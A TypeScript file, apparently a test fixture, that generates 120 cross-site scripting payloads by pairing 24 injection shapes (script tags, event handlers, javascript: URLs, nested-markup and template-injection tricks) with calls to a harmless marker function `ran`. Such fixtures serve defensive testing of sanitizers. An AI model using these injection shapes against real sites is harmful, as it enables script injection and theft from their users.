// Texts with which people try to run a script on a page that shows them. Each calls `ran` with its number.

const CALLS = [
  "ran(N)",
  "top.ran(N)",
  "window['ran'](N)",
  "setTimeout('ran(N)')",
  "parent.ran&&parent.ran(N)",
];

const SHAPES = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<img src=x onerror="${call}">`,
  (call: string) => `"><svg onload=${call}>`,
  (call: string) => `'><details open ontoggle='${call}'>`,
  (call: string) => `</title><script>${call}</script>`,
  (call: string) => `</textarea><img src=x onerror=${call}>`,
  (call: string) => `" autofocus onfocus="${call}" x="`,
  (call: string) => `javascript:${call}`,
  (call: string) => `<a href="javascript:${call}">press</a>`,
  (call: string) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call: string) => `<math><mtext><table><mglyph><style><img src=x onerror="${call}">`,
  (call: string) => `--></script><script>${call}</script><!--`,
  (call: string) => `{{constructor.constructor('${call}')()}}`,
  (call: string) => `\${${call}}`,
  (call: string) => `<style>@import 'data:text/css,*{}'</style><body onload=${call}>`,
  (call: string) => `<template><script>${call}</script></template>`,
  (call: string) => `<form action="javascript:${call}"><button autofocus>send</button></form>`,
  (call: string) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call: string) => `<base href="javascript:${call}//">`,
  (call: string) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call: string) => `<marquee onstart=${call}>`,
  (call: string) => `<video><source onerror=${call}></video>`,
  (call: string) => `<input onfocus=${call} autofocus>`,
  (call: string) => `]]><script>${call}</script>`,
];

/** 120 of them. */
export const HOSTILE_TEXTS: readonly string[] = SHAPES.flatMap((shape, row) =>
  CALLS.map((call, column) => shape(call.replace("N", String(row * CALLS.length + column)))),
);
